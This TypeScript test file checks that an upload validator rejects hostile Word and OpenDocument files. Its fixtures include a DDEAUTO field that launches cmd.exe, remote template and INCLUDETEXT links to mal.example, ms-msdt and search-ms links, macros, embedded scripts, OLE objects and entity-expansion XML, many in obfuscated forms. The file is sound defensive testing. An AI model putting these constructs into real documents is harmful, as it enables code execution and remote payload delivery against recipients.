import {
  contentTypesXml,
  documentXml,
  docx,
  mainType,
  odt,
  odtContent,
  pdf,
  relationsXml,
} from "../../test/upload-files.ts";
import { zip } from "../../test/zip-files.ts";
import { type Hostile, refuses, text } from "./hostile.test-helper.ts";

const part = (name: string, content = "x") => docx({ [name]: content });
const ooxmlType = (type: string) => `application/vnd.${type}`;
const tied = (type: string, target: string) =>
  docx({ "word/_rels/settings.xml.rels": relationsXml({ type, target, external: true }) });
const field = (body: string) => docx({ "word/document.xml": documentXml(body) });
const instruction = (...pieces: string[]) =>
  field(
    pieces.map((piece) => `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`).join(""),
  );
const odtBody = (body: string) => odt({ "content.xml": odtContent(body) });
const odtMimetype = (content: string) => ({ name: "mimetype", content, stored: true });

const wordDocuments: readonly Hostile[] = [
  ["with macros", part("word/vbaProject.bin"), "DANGEROUS_FILE", /macros/],
  ["with macros under another case", part("word/VBAPROJECT.BIN"), "DANGEROUS_FILE", /macros/],
  [
    "that is a DOCM renamed",
    docx({ "[Content_Types].xml": contentTypesXml(ooxmlType("ms-word.document.macroEnabled.main+xml")) }),
    "DANGEROUS_FILE",
    /macros/,
  ],
  [
    "that hides its macros behind another name",
    docx({
      "word/theme.bin": "x",
      "[Content_Types].xml": contentTypesXml(
        mainType,
        `<Default Extension="bin" ContentType="${ooxmlType("ms-office.vbaProject")}"/>`,
      ),
    }),
    "DANGEROUS_FILE",
    /macros/,
  ],
  [
    "that spells its macros otherwise",
    docx({
      "[Content_Types].xml": contentTypesXml(
        mainType,
        `<Default Extension="bin" ContentType="application/vnd.ms-office.vba&#80;roject"/>`,
      ),
    }),
    "DANGEROUS_FILE",
    /macros/,
  ],
  [
    "that is tied to macros",
    docx({ "word/_rels/document.xml.rels": relationsXml({ type: "wordVbaData", target: "a.bin" }) }),
    "DANGEROUS_FILE",
    /macros/,
  ],
  [
    "that is a workbook",
    docx({
      "[Content_Types].xml": contentTypesXml(
        ooxmlType("openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
      ),
    }),
    "UNSUPPORTED_FILE",
    /Word/,
  ],
  ["without its text", docx({ "word/document.xml": null }), "UNSUPPORTED_FILE", /incomplet/],
  ["without its relations", docx({ "_rels/.rels": null }), "UNSUPPORTED_FILE", /incomplet/],
  ["with an embedded object", part("word/embeddings/oleObject1.bin"), "DANGEROUS_FILE", /objet/],
  ["with a control", part("word/activeX/activeX1.bin"), "DANGEROUS_FILE", /objet/],
  [
    "tied to an object",
    docx({ "word/_rels/document.xml.rels": relationsXml({ type: "oleObject", target: "media/a.bin" }) }),
    "DANGEROUS_FILE",
    /objet/,
  ],
  [
    "that imports a page",
    docx({ "word/_rels/document.xml.rels": relationsXml({ type: "aFChunk", target: "media/a.xml" }) }),
    "DANGEROUS_FILE",
    /objet/,
  ],
  [
    "whose template is far",
    tied("attachedTemplate", "https://mal.example/a.dotm"),
    "DANGEROUS_FILE",
    /ailleurs/,
  ],
  [
    "whose template is on a share",
    tied("attachedTemplate", "file:\\\\mal.example\\a.dotm"),
    "DANGEROUS_FILE",
    /ailleurs/,
  ],
  [
    "whose template is spelled otherwise",
    tied("attachedTemplate", "&#104;ttps://mal.example/a"),
    "DANGEROUS_FILE",
    /ailleurs/,
  ],
  ["whose picture is far", tied("image", "\\\\mal.example\\a.png"), "DANGEROUS_FILE", /ailleurs/],
  [
    "whose relations are not well formed",
    docx({ "word/_rels/a.xml.rels": "<Relationship <Relationship a" }),
    "UNSUPPORTED_FILE",
    /abîmé/,
  ],
  [
    "that starts a program",
    instruction('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'),
    "DANGEROUS_FILE",
    /DDE/,
  ],
  [
    "that starts a program piece by piece",
    instruction("DD", "EAU", "TO c:\\\\cmd.exe"),
    "DANGEROUS_FILE",
    /DDE/,
  ],
  ["that starts a program in one word", field('<w:fldSimple w:instr="DDE cmd"/>'), "DANGEROUS_FILE", /DDE/],
  [
    "that starts a program, spelled with a comment",
    instruction("DD<!-- x -->EAUTO c:\\\\cmd.exe"),
    "DANGEROUS_FILE",
    /DDE/,
  ],
  [
    "that starts a program, quoted as it is",
    instruction("<![CDATA[DDEAUTO c:\\\\cmd.exe]]>"),
    "DANGEROUS_FILE",
    /DDE/,
  ],
  [
    "that starts a program, cut by an instruction",
    instruction("DD<?x y?>EAUTO c:\\\\cmd.exe"),
    "DANGEROUS_FILE",
    /DDE/,
  ],
  [
    "that starts a program under another prefix",
    field("<é:r><é:instrText>DDEAUTO c:\\\\cmd.exe</é:instrText></é:r>"),
    "DANGEROUS_FILE",
    /DDE/,
  ],
  [
    "that starts a program in one word under another prefix",
    field('<é:fldSimple é:instr="DDE cmd"/>'),
    "DANGEROUS_FILE",
    /DDE/,
  ],
  [
    "whose text has no name of a text",
    docx({
      "word/document.xml": null,
      "word/document.dat": documentXml('<w:fldSimple w:instr="DDE cmd"/>'),
      "[Content_Types].xml": contentTypesXml().replace("document.xml", "document.dat"),
    }),
    "DANGEROUS_FILE",
    /nom/,
  ],
  [
    "whose texts have no names of texts",
    docx({
      "word/footer1.dat": documentXml('<w:fldSimple w:instr="DDE cmd"/>'),
      "[Content_Types].xml": contentTypesXml(
        mainType,
        `<Default Extension="dat" ContentType="${ooxmlType("openxmlformats-officedocument.wordprocessingml.footer+xml")}"/>`,
      ),
    }),
    "DANGEROUS_FILE",
    /nom/,
  ],
  [
    "whose template is far, under another prefix",
    docx({
      "word/_rels/settings.xml.rels": relationsXml({
        type: "attachedTemplate",
        target: "https://mal.example/a.dotm",
        external: true,
      }).replace("<Relationship ", "<é:Relationship "),
    }),
    "DANGEROUS_FILE",
    /ailleurs/,
  ],
  [
    "whose template is on a share, its signs in hexadecimal",
    tied("attachedTemplate", "file:///%5C%5Cmal.example/a.dotm"),
    "DANGEROUS_FILE",
    /ailleurs/,
  ],
  [
    "whose template is found by a program",
    tied("attachedTemplate", "search-ms:query=a"),
    "DANGEROUS_FILE",
    /ailleurs/,
  ],
  [
    "with a link that starts a program",
    tied("hyperlink", "ms-msdt:/id PCWDiagnostic"),
    "DANGEROUS_FILE",
    /programme/,
  ],
  [
    "with an object that its relations do not call so",
    field('<w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rId9"/></w:object>'),
    "DANGEROUS_FILE",
    /objet/,
  ],
  [
    "that is linked to a workbook",
    instruction("LINK Excel.Sheet.12 C:\\\\a.xlsx"),
    "DANGEROUS_FILE",
    /objet/,
  ],
  [
    "that includes a text of a share",
    instruction('INCLUDETEXT "file://mal.example/a"'),
    "DANGEROUS_FILE",
    /ailleurs/,
  ],
  [
    "whose comments never end",
    docx({ "word/document.xml": documentXml("<!-- <w:p>") }),
    "UNSUPPORTED_FILE",
    /abîmé/,
  ],
  [
    "that includes a far text",
    instruction('INCLUDETEXT "https://mal.example/a"'),
    "DANGEROUS_FILE",
    /ailleurs/,
  ],
  [
    "whose entities grow",
    docx({ "word/document.xml": '<!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;">]><a>&c;</a>' }),
    "DANGEROUS_FILE",
    /définitions/,
  ],
  [
    "whose entities grow, in UTF-16",
    docx({ "word/document.xml": Buffer.from('\ufeff<!DOCTYPE a [<!ENTITY b "bb">]><a/>', "utf16le") }),
    "DANGEROUS_FILE",
    /définitions/,
  ],
  [
    "in an unknown encoding",
    docx({ "word/document.xml": '<?xml version="1.0" encoding="UTF-7"?><a/>' }),
    "UNSUPPORTED_FILE",
    /abîmé/,
  ],
  ["whose text is no XML", docx({ "word/document.xml": "MZ" }), "UNSUPPORTED_FILE", /abîmé/],
  [
    "that is a PDF as well",
    docx({}, {}, []).length > 0 ? zip([{ name: "%PDF-1.7", stored: true, content: pdf() }]) : text(""),
    "DANGEROUS_FILE",
    /PDF/,
  ],
];

const openDocuments: readonly Hostile[] = [
  ["with macros", odt({ "Basic/Standard/Module1.xml": "<a/>" }), "DANGEROUS_FILE", /macros/],
  ["with a script of Python's", odt({ "Scripts/python/a.txt": "x" }), "DANGEROUS_FILE", /macros/],
  [
    "with a script in its text",
    odt({
      "content.xml": odtContent(
        "<a/>",
        '<office:scripts><office:script script:language="x"/></office:scripts>',
      ),
    }),
    "DANGEROUS_FILE",
    /scripts/,
  ],
  [
    "with a script in a field",
    odtBody('<text:script script:language="JavaScript">alert(1)</text:script>'),
    "DANGEROUS_FILE",
    /scripts/,
  ],
  [
    "that listens to events, under another prefix",
    odtBody('<x:event-listener x:event-name="dom:load" xlink:href="a"/>'),
    "DANGEROUS_FILE",
    /scripts/,
  ],
  [
    "with a link to a script",
    odtBody('<text:a xlink:href="vnd.sun.star.script:a">x</text:a>'),
    "DANGEROUS_FILE",
    /scripts/,
  ],
  [
    "with a link to a script, spelled otherwise",
    odtBody('<text:a xlink:href="&#x6a;avascript:a">x</text:a>'),
    "DANGEROUS_FILE",
    /scripts/,
  ],
  [
    "with a script under another prefix",
    odtBody('<é:script é:language="JavaScript">alert(1)</é:script>'),
    "DANGEROUS_FILE",
    /scripts/,
  ],
  [
    "with a link that starts a program",
    odtBody('<text:a xlink:href="ms-msdt:/id">x</text:a>'),
    "DANGEROUS_FILE",
    /scripts/,
  ],
  [
    "with a far table",
    odtBody('<table:table-source xlink:href="https://mal.example/a.ods"/>'),
    "DANGEROUS_FILE",
    /ailleurs/,
  ],
  ["with an applet", odtBody("<draw:applet/>"), "DANGEROUS_FILE", /objet/],
  ["with an object", odtBody('<draw:object-ole xlink:href="./a"/>'), "DANGEROUS_FILE", /objet/],
  [
    "with a far picture",
    odtBody('<draw:image xlink:href="http://mal.example/a.png"/>'),
    "DANGEROUS_FILE",
    /ailleurs/,
  ],
  [
    "with a far section",
    odtBody('<text:section-source xlink:href="//mal.example/a.odt"/>'),
    "DANGEROUS_FILE",
    /ailleurs/,
  ],
  [
    "that is encrypted",
    odt({
      "META-INF/manifest.xml": "<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>",
    }),
    "UNSUPPORTED_FILE",
    /mot de passe/,
  ],
  [
    "that is a workbook",
    odt({}, odtMimetype("application/vnd.oasis.opendocument.spreadsheet")),
    "UNSUPPORTED_FILE",
    /OpenDocument/,
  ],
  [
    "that says its kind in passing",
    odt({}, odtMimetype("application/vnd.oasis.opendocument.text; x")),
    "UNSUPPORTED_FILE",
    /OpenDocument/,
  ],
  ["without its text", odt({ "content.xml": null }), "UNSUPPORTED_FILE", /incomplet/],
  ["without its manifest", odt({ "META-INF/manifest.xml": null }), "UNSUPPORTED_FILE", /incomplet/],
];

refuses("A Word document", wordDocuments);
refuses("An OpenDocument text", openDocuments);
